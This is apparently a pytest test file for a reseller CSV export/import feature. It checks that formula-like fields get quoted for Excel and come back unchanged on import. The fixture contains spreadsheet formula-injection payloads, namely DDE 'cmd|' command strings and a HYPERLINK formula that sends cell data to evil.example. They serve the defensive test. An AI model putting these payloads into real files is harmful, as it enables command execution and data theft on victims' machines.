"""A reseller export opens safely in Excel (a byte-order mark, formulas quoted) and our
import reads it back to the same resellers, whatever their fields look like."""

from __future__ import annotations

import codecs
import csv
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from studio.context import Studio
from studio.domain.actors import Actor
from studio.domain.reseller_rules import Address, Department, ResellerInput
from studio.services.reseller_list import list_resellers
from studio.services.reseller_transfer import export_resellers, import_resellers
from studio.services.resellers import create_reseller, get_reseller
from tests.support.resellers import sample_reseller


def _formula_like_reseller() -> ResellerInput:
    base = sample_reseller(1, first_name="=cmd|' /C calc'!A0", last_name="Zoë")
    return replace(
        base,
        address=replace(base.address, line1="@SUM(1+1)*cmd|' /C calc'!A0", city="-2+3"),
        company=replace(
            base.company,
            name="+SUM(1+1)",
            website="https://münchen.de/",
            phone="+44 20 7946 0000 ext. 12",
            address=Address("'=already quoted", "'plain quote", "Zoë-les-Bains", "", "", "FR"),
            departments=(
                Department(
                    "Billing",
                    "",
                    "billing@engines.example.com",
                    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
                ),
                Department("Sales"),
            ),
        ),
    )


def test_formula_like_and_accented_fields_survive_export_and_import(
    studio: Studio, admin: Actor, tmp_path: Path, another_studio: Callable[[], Studio]
) -> None:
    data = _formula_like_reseller()
    created = create_reseller(studio, admin, data)
    original = get_reseller(studio, admin, created.id).data.without_password()
    target = tmp_path / "resellers.csv"
    assert export_resellers(studio, admin, target) == 1

    raw = target.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["first_name"] == "'=cmd|' /C calc'!A0"
    assert row["last_name"] == "Zoë"
    assert row["company.name"] == "'+SUM(1+1)"
    assert row["company.phone"] == "'+442079460000;ext=12"
    assert row["company.website"] == "https://münchen.de/"
    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in row.values())

    other = another_studio()
    assert import_resellers(other, admin, target) == 1
    (listed,) = list_resellers(other, admin)
    imported = get_reseller(other, admin, listed.id).data
    assert imported == original
    assert imported.first_name == "=cmd|' /C calc'!A0"
    assert imported.company.address.line1 == "'=already quoted"
    assert imported.company.address.line2 == "'plain quote"
